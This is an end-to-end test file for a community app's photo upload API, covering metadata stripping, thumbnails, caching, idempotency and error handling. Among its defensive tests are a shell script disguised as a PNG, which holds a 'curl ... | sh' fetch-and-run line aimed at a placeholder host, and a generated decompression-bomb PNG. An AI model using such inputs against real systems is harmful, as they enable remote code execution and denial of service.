import { MEDIA_MAX_UPLOAD_BYTES, UploadedPhoto } from '@linli/shared';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import type { AppConfig } from '../../server/src/config/app-config';
import { pngBomb } from '../../server/src/media/image/test-images';
import { PhotoProcessingGate } from '../../server/src/media/image/photo-processing-gate';
import { MediaFile } from '../../server/src/media/media-file.entity';
import { createUser } from './support/factories';
import { startTestApp, TestApp } from './support/test-app';

/** A phone photo: stored sideways (orientation 6) with camera make and a GPS position in its EXIF. */
function phonePhoto(width = 1200, height = 900): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#7a5c2e' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: 'LinliTestCam', Model: 'GPS-1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '23/1 7/1 3000/100', GPSLongitudeRef: 'E', GPSLongitude: '113/1 16/1 1500/100' },
    })
    .toBuffer();
}

function plainJpeg(width = 320, height = 240): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#2e5c7a' } }).jpeg().toBuffer();
}

describe('photo uploads (/api/media)', () => {
  let t: TestApp;
  let mediaDir: string;
  let residentToken: string;
  let residentId: number;

  beforeAll(async () => {
    mediaDir = await mkdtemp(join(tmpdir(), 'linli-media-e2e-'));
    // mediaDir is read by the media module when AppConfig carries it; the cast keeps this test independent of it.
    t = await startTestApp({ mediaDir } as Partial<AppConfig>, { seed: false });
    const resident = await createUser(t.dataSource, { name: '随手拍居民' });
    residentId = resident.id;
    residentToken = await t.tokenFor(resident.id);
  });

  afterAll(async () => {
    await t?.close();
    await rm(mediaDir, { recursive: true, force: true });
  });

  const upload = (token: string | null, build: (req: ReturnType<TestApp['request']['post']>) => ReturnType<TestApp['request']['post']>) => {
    const req = t.request.post('/api/media/photos');
    if (token) req.set('Authorization', `Bearer ${token}`);
    return build(req);
  };

  it('stores a resident’s phone photo upright, scaled, and without any EXIF or GPS position', async () => {
    const input = await phonePhoto(3200, 2400);
    const res = await upload(residentToken, (req) => req.attach('file', input, 'IMG_0001.jpg'));
    expect(res.status).toBe(201);
    const photo = res.body as UploadedPhoto;
    expect(photo.id).toMatch(/^[A-Za-z0-9_-]{22}$/);
    expect(photo.url).toBe(`/api/media/${photo.id}`);
    expect(photo.thumbUrl).toBe(`/api/media/${photo.id}/thumb`);
    // 3200×2400 sideways → upright 2400×3200 → long edge capped at 2560.
    expect([photo.width, photo.height]).toEqual([1920, 2560]);

    const served = await t.request.get(photo.url);
    expect(served.status).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toContain('immutable');
    expect(Number(served.headers['content-length'])).toBe(photo.bytes);
    const meta = await sharp(served.body as Buffer).metadata();
    expect(meta.exif).toBeUndefined();
    expect([meta.width, meta.height]).toEqual([photo.width, photo.height]);
    expect((served.body as Buffer).toString('latin1')).not.toContain('LinliTestCam');

    const row = await t.dataSource.getRepository(MediaFile).findOneByOrFail({ id: photo.id });
    expect(row).toMatchObject({ ownerUserId: residentId, purpose: 'generic', attachedTo: null, bytes: photo.bytes });
  });

  it('serves a thumbnail no larger than 400 px on its long edge', async () => {
    const input = await plainJpeg(1600, 1000);
    const { body: photo } = await upload(residentToken, (req) => req.attach('file', input, 'a.jpg')).expect(201);
    const thumb = await t.request.get((photo as UploadedPhoto).thumbUrl);
    expect(thumb.status).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/jpeg');
    const meta = await sharp(thumb.body as Buffer).metadata();
    expect([meta.width, meta.height]).toEqual([400, 250]);
  });

  it('answers a repeated fetch with the same ETag as 304 Not Modified', async () => {
    const input = await plainJpeg();
    const { body: photo } = await upload(residentToken, (req) => req.attach('file', input, 'a.jpg')).expect(201);
    const first = await t.request.get((photo as UploadedPhoto).url).expect(200);
    const again = await t.request.get((photo as UploadedPhoto).url).set('If-None-Match', first.headers.etag);
    expect(again.status).toBe(304);
  });

  it('returns the first result when an upload is retried with the same Idempotency-Key', async () => {
    const key = `retry-${Date.now()}`;
    const photo = await plainJpeg();
    const first = await upload(residentToken, (req) => req.set('Idempotency-Key', key).attach('file', photo, 'a.jpg')).expect(201);
    const retry = await upload(residentToken, (req) => req.set('Idempotency-Key', key).attach('file', photo, 'a.jpg')).expect(201);
    expect(retry.body).toEqual(first.body);
    expect(await t.dataSource.getRepository(MediaFile).countBy({ ownerUserId: residentId, idempotencyKey: key })).toBe(1);

    const other = await createUser(t.dataSource, { name: '另一位居民' });
    const theirs = await upload(await t.tokenFor(other.id), (req) => req.set('Idempotency-Key', key).attach('file', photo, 'a.jpg')).expect(201);
    expect(theirs.body.id).not.toBe(first.body.id);
  });

  it('lets a grid worker upload after-photos too', async () => {
    const worker = await createUser(t.dataSource, { name: '网格员', grants: [{ role: 'grid_worker', scopeId: 1 }] });
    const input = await plainJpeg();
    const res = await upload(await t.tokenFor(worker.id), (req) => req.attach('file', input, 'after.jpg'));
    expect(res.status).toBe(201);
  });

  it('answers 400 when no file is sent', async () => {
    const res = await upload(residentToken, (req) => req.field('note', '没有照片'));
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ statusCode: 400, error: 'no_photo', message: '请选择一张照片上传' });
  });

  it('answers 400 to a JSON body instead of a multipart upload', async () => {
    const res = await upload(residentToken, (req) => req.send({ file: 'not a photo' }));
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({ statusCode: 400, error: 'no_photo', message: '请选择一张照片上传' });
  });

  it('answers 400 to a photo in another field or to two photos at once, and stores neither', async () => {
    const before = await t.dataSource.getRepository(MediaFile).count();
    const input = await plainJpeg();
    const wrongField = await upload(residentToken, (req) => req.attach('photo', input, 'a.jpg'));
    const two = await upload(residentToken, (req) => req.attach('file', input, 'a.jpg').attach('file', input, 'b.jpg'));
    for (const res of [wrongField, two]) {
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ statusCode: 400, error: 'unexpected_field', message: '每次只能上传一张照片，字段名为 file' });
    }
    expect(await t.dataSource.getRepository(MediaFile).count()).toBe(before);
  });

  it('answers 422 for a text file renamed to .png, judging by content not by name', async () => {
    const before = await t.dataSource.getRepository(MediaFile).count();
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/payload | sh\n');
    const res = await upload(residentToken, (req) => req.attach('file', script, { filename: 'photo.png', contentType: 'image/png' }));
    expect(res.status).toBe(422);
    expect(res.body).toMatchObject({ statusCode: 422, error: 'unsupported_image_type', message: '不支持的图片格式' });
    expect(await t.dataSource.getRepository(MediaFile).count()).toBe(before);
  });

  it('answers 422 for a corrupt JPEG', async () => {
    const whole = await plainJpeg(800, 600);
    const res = await upload(residentToken, (req) => req.attach('file', whole.subarray(0, whole.length >> 1), 'broken.jpg'));
    expect(res.status).toBe(422);
    expect(res.body.error).toBe('undecodable_image');
  });

  it('answers 413 in the one error shape for a photo over the size limit', async () => {
    const res = await upload(residentToken, (req) => req.attach('file', Buffer.alloc(MEDIA_MAX_UPLOAD_BYTES + 1024, 0xff), 'huge.jpg'));
    expect(res.status).toBe(413);
    expect(res.body).toMatchObject({ statusCode: 413, error: 'photo_too_large' });
    expect(res.body.message).toMatch(/照片不能超过/);
  });

  it('refuses a 300 KB PNG that decodes to 100 megapixels with 422 from its header, and stores nothing', async () => {
    const filesBefore = (await readdir(mediaDir, { recursive: true })).length;
    const rowsBefore = await t.dataSource.getRepository(MediaFile).count();
    const bomb = await pngBomb(10_000, 10_000, 'rgb');
    expect(bomb.length).toBeLessThan(400 * 1024);
    const res = await upload(residentToken, (req) => req.attach('file', bomb, 'bomb.png'));
    expect(res.status).toBe(422);
    expect(res.body).toMatchObject({
      statusCode: 422,
      error: 'too_many_pixels',
      message: '照片分辨率过高，请缩小尺寸或截图后重新上传',
      details: { width: 10_000, height: 10_000, maxPixels: 40_000_000 },
    });
    expect(await t.dataSource.getRepository(MediaFile).count()).toBe(rowsBefore);
    expect((await readdir(mediaDir, { recursive: true })).length).toBe(filesBefore);
  });

  it('refuses an image just over the 40 MP default (8000 × 6000) but not one under it', async () => {
    const [overPng, underPng] = [await pngBomb(8000, 6000), await pngBomb(6000, 4000)];
    const over = await upload(residentToken, (req) => req.attach('file', overPng, 'over.png'));
    expect(over.status).toBe(422);
    expect(over.body.error).toBe('too_many_pixels');
    const under = await upload(residentToken, (req) => req.attach('file', underPng, 'under.png'));
    expect(under.status).toBe(201);
    expect([under.body.width, under.body.height]).toEqual([2560, 1707]);
  });

  describe('when every decoder is busy', () => {
    // Stand-ins for photos being decoded: each holds its place until released; once drained, later ones pass at once.
    const release: Array<() => void> = [];
    let drained = false;
    const occupy = (gate: PhotoProcessingGate) => {
      void gate.run(() => (drained ? Promise.resolve() : new Promise<void>((done) => release.push(done))));
    };
    const drain = () => {
      drained = true;
      release.splice(0).forEach((done) => done());
    };
    afterEach(drain);

    it('queues an upload until a decoder is free, and answers 503 with Retry-After once the queue is full, storing nothing', async () => {
      const gate = t.app.get(PhotoProcessingGate);
      const rowsBefore = await t.dataSource.getRepository(MediaFile).count();
      for (let i = 0; i < gate.concurrency; i++) occupy(gate);
      for (let i = 0; i < gate.maxWaiting; i++) occupy(gate);
      expect(gate.waiting).toBe(gate.maxWaiting);

      const photo = await plainJpeg();
      const refused = await upload(residentToken, (req) => req.attach('file', photo, 'busy.jpg'));
      expect(refused.status).toBe(503);
      expect(refused.body).toMatchObject({ statusCode: 503, error: 'uploads_busy', message: '上传照片的人太多，请稍后重试' });
      expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      expect(await t.dataSource.getRepository(MediaFile).count()).toBe(rowsBefore);

      // One place frees up in the queue: the next upload waits in it and goes through once the decoders are free.
      release.shift()!();
      await new Promise((r) => setImmediate(r));
      const queued = upload(residentToken, (req) => req.attach('file', photo, 'queued.jpg')).then((res) => res);
      while (gate.waiting < gate.maxWaiting) await new Promise((r) => setTimeout(r, 10));
      drain();
      expect((await queued).status).toBe(201);
    });
  });

  it('refuses a visitor with 401 and stores nothing', async () => {
    const filesBefore = (await readdir(mediaDir, { recursive: true })).length;
    const input = await plainJpeg();
    const res = await upload(null, (req) => req.attach('file', input, 'a.jpg'));
    expect(res.status).toBe(401);
    expect(res.body.error).toBe('unauthenticated');
    expect((await readdir(mediaDir, { recursive: true })).length).toBe(filesBefore);
  });

  it('answers 404 for an unknown photo id and its thumbnail', async () => {
    for (const path of ['/api/media/AAAAAAAAAAAAAAAAAAAAAA', '/api/media/AAAAAAAAAAAAAAAAAAAAAA/thumb', '/api/media/not-an-id']) {
      const res = await t.request.get(path);
      expect(res.status).toBe(404);
      expect(res.body).toMatchObject({ statusCode: 404, error: 'photo_not_found', message: '照片不存在' });
    }
  });
});
